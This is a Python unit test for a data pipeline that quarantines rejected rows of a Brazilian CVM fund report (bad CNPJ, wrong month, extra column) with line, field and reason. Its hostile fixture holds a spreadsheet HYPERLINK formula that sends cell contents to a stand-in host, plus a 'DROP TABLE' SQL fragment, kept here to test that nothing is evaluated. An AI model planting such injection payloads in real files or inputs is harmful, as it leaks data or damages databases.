"""Rejected rows of a CVM report land in lake.quarantine like a custodian file's: the zip member as the file,
the physical line, the field, the reason and the raw text; the rest of the tab lands. A real local Iceberg
lake (SQLite catalog), no PostgreSQL."""

from __future__ import annotations

import datetime as dt
import re
from decimal import Decimal
from pathlib import Path

from fidc_assets.lib.core.canonical import QUARANTINE
from fidc_assets.lib.core.shipped import SHIPPED
from fidc_assets.lib.lake.archive import sha256_file
from fidc_assets.lib.lake.catalog import Lake
from fidc_assets.lib.regulatory.landing import land_report
from fidc_assets.lib.regulatory.spec import load_cvm_spec
from fidc_assets.lib.regulatory.tables import tab_entity
from tests.unit.test_cvm_reader import zipped

NOW = dt.datetime(2026, 12, 2, tzinfo=dt.UTC)
HEAD = "TP_FUNDO_CLASSE;CNPJ_FUNDO_CLASSE;DENOM_SOCIAL;DT_COMPTC;TAB_IV_A_VL_PL;TAB_IV_B_VL_PL_MEDIO\n"
GOOD = "Classe;14.166.140/0001-49;FIDC BOM;2024-07-31;1000.25;990.10\n"
HOSTILE = (
    # a spreadsheet formula for a name and a PL that is not a number: typed, the row is rejected, its text kept
    'Classe;13.733.804/0001-41;=HYPERLINK("http://x.example/?"&A1,"clique");2024-07-31;1e309 DROP TABLE x--;\n'
    "Classe;11.111.111/1111-11;CNPJ INVALIDO;2024-07-31;5.00;\n"  # check digits wrong
    "Classe;37.087.653/0001-60;OUTRO MES;2024-08-31;5.00;\n"  # DT_COMPTC outside the member's month
    "Classe;37.087.653/0001-60;CAMPOS;2024-07-31;5.00;6.00;7.00\n"  # one field too many
)
MEMBER = "inf_mensal_fidc_tab_IV_202407.csv"


def _zip(tmp_path: Path, text: str, folder: str) -> Path:
    path = tmp_path / folder / "inf_mensal_fidc_202407.zip"
    path.parent.mkdir(parents=True)
    path.write_bytes(zipped({MEMBER: text}))
    return path


def test_rejected_rows_of_a_tab_are_quarantined_with_member_line_and_reason(tmp_path):
    spec = load_cvm_spec(SHIPPED.root / "cvm" / "inf_mensal.yaml")
    lake = Lake.local(tmp_path / "lake")
    path = _zip(tmp_path, HEAD + GOOD + HOSTILE, "2024-08-05")
    landed = land_report(lake, path, spec, now=NOW)
    assert landed.rows == 1 and landed.rejected == 4
    tab_iv = lake.read(tab_entity(spec, "IV")).to_pylist()
    assert [(r["cnpj_fundo_classe"], r["tab_iv_a_vl_pl"]) for r in tab_iv] == [("14166140000149", Decimal("1000.25"))]

    rows = sorted(lake.read(QUARANTINE).to_pylist(), key=lambda r: r["line_number"])
    assert {r["file_name"] for r in rows} == {f"inf_mensal_fidc_202407.zip:{MEMBER}"}
    assert {(r["source_file_sha256"], r["custodian_id"], r["entity"], r["reference_date"]) for r in rows} == {
        (sha256_file(path), "cvm", "cvm_tab_iv", dt.date(2024, 7, 1))
    }
    assert [(r["line_number"], r["field"], r["reason_code"], r["fund_cnpj"]) for r in rows] == [
        (3, "TAB_IV_A_VL_PL", "unparseable_number", "13733804000141"),
        (4, "CNPJ_FUNDO_CLASSE", "invalid_document", None),
        (5, "DT_COMPTC", "date_mismatch", "37087653000160"),
        (6, None, "wrong_column_count", None),  # the splitter's: a field too many, no value read
    ]
    # the raw text byte for byte, formula and all: nothing evaluated, nothing lost
    assert [r["raw_text"] for r in rows] == HOSTILE.splitlines()
    assert all(re.match(rf"line {r['line_number']}\b", r["message"]) for r in rows), [r["message"] for r in rows]

    # the same bytes landed again: the quarantine is replaced, not doubled
    land_report(lake, path, spec, now=NOW)
    assert lake.read(QUARANTINE).num_rows == 4
    # a corrected re-publication lands clean; what the first bytes held stays theirs
    fixed = _zip(tmp_path, HEAD + GOOD, "2024-09-02")
    assert land_report(lake, fixed, spec, now=NOW).rejected == 0
    assert {r["source_file_sha256"] for r in lake.read(QUARANTINE).to_pylist()} == {sha256_file(path)}
